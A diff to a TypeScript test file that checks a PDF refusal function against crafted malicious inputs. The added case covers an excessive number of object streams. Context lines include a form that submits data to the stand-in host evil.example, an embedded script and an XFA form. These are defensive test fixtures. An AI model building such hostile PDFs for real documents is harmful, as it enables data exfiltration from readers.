@@ -26,6 +26,7 @@ it.each<[string, Buffer, ReturnType<typeof documentRefusal>]>([
   ["a form that sends data", pdf("<< /S /SubmitForm /F (https://evil.example) >>"), "active"],
   ["a form of another language", pdf("<< /XFA 5 0 R >>"), "active"],
   ["a password", pdf("<< /Filter /Standard /Encrypt 5 0 R >>"), "locked"],
+  ["more packs of objects than can be looked through", pdf(...Array(5001).fill(packed("<< >>"))), "damaged"],
   ["packed objects that are none", pdf(unpackable), "damaged"],
   ["packed objects in a riddle", pdf(packed(script, "/DecodeParms << /Predictor 12 >>")), "damaged"],
   ["a cut end", pdf().subarray(0, -40), "damaged"],
